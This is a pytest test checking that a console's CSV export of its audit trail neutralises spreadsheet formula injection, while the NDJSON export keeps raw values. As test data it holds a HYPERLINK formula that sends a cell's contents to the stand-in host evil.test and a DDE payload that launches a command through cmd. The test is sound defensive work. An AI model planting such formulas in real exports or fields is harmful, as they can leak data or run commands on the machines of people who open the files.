"""The console's CSV export of the audit trail in process: a hostile review reason and a hostile person's name
reach the auditor's spreadsheet as text (OWASP CSV injection), the NDJSON export unchanged."""

from __future__ import annotations

import csv
import io
import re

import orjson

from tests.api.conftest import Node
from tests.api.test_console_review import PASSWORD, console, referred, signed_in
from tests.api.test_enquiry import world  # noqa: F401

FORMULA = '=HYPERLINK("https://evil.test/?"&A1,"Click")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_a_formula_in_a_reason_or_a_name_is_exported_as_text(world: Node) -> None:  # noqa: F811
    task_id = referred(world)
    console(world).accounts.add("olu", "ig-officer", PASSWORD, display_name=NAME)
    world.http.cookies.clear()
    form = re.search(r'name="csrf" value="([^"]+)"', world.http.get("/console/sign-in").text)
    assert form
    world.http.post("/console/sign-in", data={"csrf": form.group(1), "name": "olu", "password": PASSWORD})
    csrf = re.search(r'name="csrf" value="([^"]+)"', world.http.get("/console").text)
    assert csrf
    decided = world.http.post(
        f"/console/reviews/{task_id}",
        data={"csrf": csrf.group(1), "decision": "deny", "reason": FORMULA},
        follow_redirects=False,
    )
    assert decided.status_code == 303, decided.text
    signed_in(world, "ade", "auditor")
    exported = world.http.get("/console/audit/export", params={"format": "csv"})
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    decisions = [r for r in rows if r["subtype"].startswith("review-decision")]
    assert decisions
    assert {r["reason"] for r in decisions} == {"'" + FORMULA}
    assert "'" + NAME in {r["user"] for r in rows}  # the console's own record names the person
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
    ndjson = world.http.get("/console/audit/export", params={"format": "ndjson", "subtype": "review-decision"})
    assert {orjson.loads(line)["outcomeDesc"] for line in ndjson.text.splitlines()} == {FORMULA}
